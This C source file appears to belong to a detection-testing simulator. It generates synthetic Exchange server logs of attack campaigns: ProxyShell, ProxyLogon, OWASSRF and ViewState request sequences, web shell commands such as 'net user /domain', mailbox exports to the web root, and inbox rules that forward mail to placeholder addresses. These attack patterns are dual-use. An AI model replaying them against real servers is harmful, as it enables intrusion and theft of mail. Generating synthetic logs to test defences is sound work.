/* Campaigns through the server: an exploit, a shell and exports (A6); what stays behind (A7), from
 * hands that have nothing in common (A19). */
#include "tests/simulate/organisation/attack_parts.h"
#include "tests/simulate/organisation/iis.h"
#include "tests/simulate/organisation/truth.h"
#include "tests/simulate/organisation/winlog.h"

typedef struct step {
    const char *method, *stem, *query, *user;
    int status;
} step;

static const step proxyshell[] = {
    {"GET", "/autodiscover/autodiscover.json",
     "@outer.example/owa/?&Email=autodiscover/autodiscover.json%3F@outer.example", NULL, 302},
    {"POST", "/autodiscover/autodiscover.json",
     "@outer.example/autodiscover/autodiscover.xml?=&Email=autodiscover/"
     "autodiscover.json%3f@outer.example",
     NULL, 200},
    {"POST", "/autodiscover/autodiscover.json",
     "@outer.example/mapi/emsmdb/?=&Email=autodiscover/autodiscover.json%3f@outer.example", NULL,
     200},
    {"POST", "/autodiscover/autodiscover.json",
     "@outer.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBB&Email=autodiscover/"
     "autodiscover.json%3f@outer.example",
     NULL, 200},
    {"POST", "/autodiscover/autodiscover.json",
     "@outer.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBC&Email=autodiscover/"
     "autodiscover.json%3f@outer.example",
     NULL, 200}};
static const step proxylogon[] = {{"GET", "/ecp/q7.js", "", NULL, 200},
                                  {"POST", "/ecp/q7.js", "", NULL, 200},
                                  {"POST", "/ecp/q7.js", "", NULL, 241},
                                  {"POST", "/ecp/DDI/DDIService.svc/SetObject",
                                   "schema=ResetOABVirtualDirectory&msExchEcpCanary=cT9x1", "MX01$",
                                   200}};
static const step owassrf[] = {
    {"POST", "/owa/mastermailbox%40outer.example/powershell", "", NULL, 200},
    {"POST", "/owa/mastermailbox%40outer.example/powershell", "", NULL, 200},
    {"POST", "/owa/mastermailbox%40outer.example/powershell", "serializationLevel=Full", NULL,
     200}};
static const step viewstate[] = {
    {"GET", "/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2fwEyhAYAAQAAAP%2f%2f",
     NULL, 500},
    {"GET", "/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2fwEyhAYAAQBBBP%2f%2f",
     NULL, 500}};

static void run_steps(org *o, const errand *e, rng *r)
{
    static const struct {
        const step *steps;
        size_t count;
    } kinds[] = {{proxyshell, TC_COUNT_OF(proxyshell)},
                 {proxylogon, TC_COUNT_OF(proxylogon)},
                 {owassrf, TC_COUNT_OF(owassrf)},
                 {viewstate, TC_COUNT_OF(viewstate)}};
    tc_time t = e->at;
    for (size_t i = 0; i < kinds[e->a].count; i++) {
        const step *s = &kinds[e->a].steps[i];
        hit h = {.t = t,
                 .host = 0,
                 .method = s->method,
                 .stem = s->stem,
                 .query = s->query,
                 .user = s->user,
                 .ip = e->ip,
                 .agent = e->agent,
                 .status = s->status,
                 .taken = 80 + rng_below(r, 2000)};
        if (e->a == 3) h.user = o->mailboxes[e->mailbox].domain_sam;
        (void)iis_hit(o, &h);
        t += (tc_time)(2 + rng_below(r, 9)) * TC_SECOND;
    }
    truth_source(o, e->campaign, e->ip, false);
    truth_seen(o, e->campaign, e->at);
}

static void use_shell(org *o, const errand *e, rng *r)
{
    static const char *const commands[] = {"", "", "", "c=whoami", "cmd=net+user+/domain", ""};
    tc_time t = e->at;
    char stem[64];
    snprintf(stem, sizeof(stem), "/%s/%c%c%u.aspx", e->a % 2 ? "aspnet_client" : "owa/auth",
             'a' + (char)(e->b % 26), 'e' + (char)(e->b / 7 % 20), e->b % 89);
    for (uint32_t i = 0; i < 4 + e->b % 6; i++) {
        hit h = {.t = t,
                 .host = 0,
                 .method = i == 3 ? "GET" : "POST",
                 .stem = stem,
                 .query = commands[rng_below(r, TC_COUNT_OF(commands))],
                 .ip = e->ip,
                 .agent = e->agent,
                 .status = 200,
                 .taken = 200 + rng_below(r, 4000)};
        (void)iis_hit(o, &h);
        t += (tc_time)(5 + rng_below(r, 90)) * TC_SECOND;
    }
    truth_seen(o, e->campaign, e->at);
}

static void export(org *o, const errand *e, rng *r)
{
    char parameters[300], path[128];
    const person *m = &o->mailboxes[e->mailbox];
    snprintf(path, sizeof(path), "%s/Microsoft Exchange Security Groups/SystemMailbox",
             o->t.ad_domain);
    subject by = {"SystemMailbox{bb558c35}", "S-1-5-18", path};
    snprintf(parameters, sizeof(parameters),
             "-Mailbox \"%s\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\%s\\%u.%s\"",
             m->mail, e->a % 2 ? "aspnet_client" : "temp", rng_below(r, 9000),
             e->a % 3 ? "pst" : "aspx");
    if (winlog_cmdlet(o, e->at, "New-MailboxExportRequest", parameters, by,
                      "Microsoft.Exchange.PowerShell"))
        truth_evidence(o, e->campaign, e->mailbox, EVIDENCE_CMDLET, e->at);
    truth_access(o, e->campaign, e->mailbox, e->at);
    hit h = {.t = e->at + 20 * TC_MINUTE,
             .host = 0,
             .method = "POST",
             .stem = e->a % 2 ? "/aspnet_client/dl.aspx" : "/owa/auth/dl.aspx",
             .ip = e->ip,
             .agent = e->agent,
             .status = 200,
             .taken = 30000 + rng_below(r, 90000)};
    if (iis_hit(o, &h)) truth_evidence(o, e->campaign, e->mailbox, EVIDENCE_ACCESS, h.t);
}

void attack_exploit(org *o, actor *a, rng *r)
{
    uint32_t kind = o->t.era == ERA_LEGACY ? 3 : rng_below(r, 3);
    actor_choose_victims(o, a, 1, 10, r);
    errand e = {.at = actor_time(o, a, a->first_day, r),
                .run = run_steps,
                .campaign = a->campaign,
                .a = kind,
                .b = rng_below(r, 1 << 16),
                .mailbox = a->victims[0]};
    snprintf(e.ip, sizeof(e.ip), "%s", a->sources[0]);
    snprintf(e.agent, sizeof(e.agent), "%s", a->agents[0]);
    agenda_add(o, e);
    e.run = use_shell;
    e.a = rng_below(r, 2);
    e.at += (tc_time)rng_between(r, 3, 50) * TC_MINUTE;
    agenda_add(o, e);
    for (uint32_t i = 0; i < a->victim_count; i++) {
        e.run = export;
        e.mailbox = a->victims[i];
        e.at += (tc_time)rng_between(r, 0.2, 12) * TC_HOUR;
        e.a = rng_below(r, 6);
        agenda_add(o, e);
    }
}

static void stay(org *o, const errand *e, rng *r)
{
    char parameters[400], path[128];
    const person *m = &o->mailboxes[e->mailbox];
    subject by = winlog_person(o, m, path);
    const char *cmdlet = e->a == 0   ? "Set-MailboxFolderPermission"
                         : e->a == 1 ? "Set-Mailbox"
                                     : "New-InboxRule";
    if (e->a == 0)
        snprintf(parameters, sizeof(parameters),
                 "-Identity \"%s:\\Inbox\" -User \"Default\" -AccessRights \"Owner\"", m->mail);
    else if (e->a == 1)
        snprintf(parameters, sizeof(parameters),
                 "-Identity \"%s\" -ForwardingSmtpAddress \"smtp:%s\" -DeliverToMailboxAndForward "
                 "\"True\"",
                 m->mail, e->text);
    else
        snprintf(parameters, sizeof(parameters),
                 "-Name \".\" -Mailbox \"%s\" -ForwardTo \"%s\" -MarkAsRead \"True\" -MoveToFolder "
                 "\"%s:\\RSS Feeds\"",
                 m->mail, e->text, m->mail);
    if (winlog_cmdlet(o, e->at + 3 * TC_MINUTE, cmdlet, parameters, by,
                      rng_chance(r, 0.6) ? "OWA" : "ECP"))
        truth_evidence(o, e->campaign, e->mailbox, EVIDENCE_CMDLET, e->at + 3 * TC_MINUTE);
}

void attack_persist(org *o, actor *a, rng *r)
{
    static const char *const collectors[] = {"copy.archive@inbox-keep.example",
                                             "doc.store@freemail-host.example"};
    uint32_t kind = rng_below(r, 3);
    actor_choose_victims(o, a, 1, 25, r);
    for (uint32_t i = 0; i < a->victim_count; i++) {
        errand e = actor_visit(a, a->victims[i],
                               actor_time(o, a, a->first_day + rng_below(r, a->days), r), r);
        agenda_add(o, e);
        e.run = stay;
        e.a = kind;
        e.text = collectors[kind % TC_COUNT_OF(collectors)];
        agenda_add(o, e);
    }
}

/* Nothing in common but where the mail goes: each from another machine, with another client. */
void attack_drop(org *o, actor *a, rng *r)
{
    actor_choose_victims(o, a, 2, 4, r);
    for (uint32_t i = 0; i < a->victim_count; i++) {
        uint32_t day = a->first_day + rng_below(r, a->days);
        errand e = actor_visit(a, a->victims[i], actor_time(o, a, day, r), r);
        internet_v4(internet_find(o, NET_HOSTING, internet_country(r, false), rng_below(r, 9)),
                    rng_next(r), e.ip);
        agent_text(o, agent_draw(o, AGENT_BROWSER, r), day, e.agent);
        agenda_add(o, e);
        e.run = stay;
        e.a = 1;
        e.text = "records.office@letterbox.example";
        agenda_add(o, e);
    }
}
